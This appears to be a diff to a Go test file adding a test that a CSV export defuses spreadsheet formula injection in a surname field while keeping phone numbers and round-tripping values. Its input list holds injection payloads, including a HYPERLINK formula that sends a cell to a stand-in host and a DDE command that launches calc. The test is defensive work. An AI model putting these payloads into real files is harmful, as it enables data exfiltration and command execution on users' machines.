@@ -1,7 +1,9 @@
 package standard_test
 
 import (
+	"bytes"
 	"context"
+	"encoding/csv"
 	"strings"
 	"testing"
 
@@ -43,5 +45,37 @@ func TestARestrictedRecordStaysHere(t *testing.T) {
 	h.must(err)
 	if done.Records != 2 {
 		t.Errorf("a move takes %d of 2 along", done.Records)
+	}
+}
+
+// A name that a spreadsheet would run is no formula in the table, and is the same name when the table is read again. A telephone
+// stays as it is.
+func TestNoFormulaLeaves(t *testing.T) {
+	m, err := standard.MapOf("htcds", "2.0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{
+		`=HYPERLINK("http://example.invalid/?"&A1)`, "@SUM(1)", "+cmd|'/c calc'!A1", "-2+3+cmd", "\t=1", "'=1", "''@x", "O'Brien", "'Abd", "+44 7700 900987", "-5",
+	} {
+		row := standard.Row{Number: 1, Cells: []standard.Cell{{Column: "prs_SecondName", Values: []string{name}}}}
+		file := text(t, m, standard.CSV, row)
+		table, err := csv.NewReader(bytes.NewReader([]byte(file))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		phone := strings.HasPrefix(name, "+44") || name == "-5"
+		for _, cell := range table[1] {
+			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && !phone {
+				t.Errorf("%q leaves as %q", name, cell)
+			}
+			if phone && cell != "" && cell != name {
+				t.Errorf("%q leaves as %q", name, cell)
+			}
+		}
+		again := parse(t, standard.CSV, file)
+		if len(again) != 1 || len(again[0].Cells) != 1 || again[0].Cells[0].Values[0] != name {
+			t.Errorf("%q is read again as %+v", name, again)
+		}
 	}
 }
